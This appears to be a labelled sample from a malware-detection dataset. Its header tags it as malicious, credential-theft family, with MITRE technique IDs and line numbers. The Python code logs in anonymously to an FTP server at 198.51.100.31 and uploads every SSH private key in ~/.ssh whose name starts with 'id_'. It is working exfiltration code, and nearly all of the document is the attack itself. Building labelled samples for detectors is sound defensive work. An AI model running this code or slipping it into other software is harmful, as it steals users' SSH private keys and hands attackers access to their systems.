# label: malicious family=creds techniques=T1048.003,T1552.004 lines=3,5,7-8
import ftplib, os, io
ftp = ftplib.FTP("198.51.100.31")
ftp.login("anonymous", "x@x.invalid")
for name in os.listdir(os.path.expanduser("~/.ssh")):
    if name.startswith("id_"):
        p = os.path.join(os.path.expanduser("~/.ssh"), name)
        ftp.storbinary("STOR " + name, open(p, "rb"))
ftp.quit()
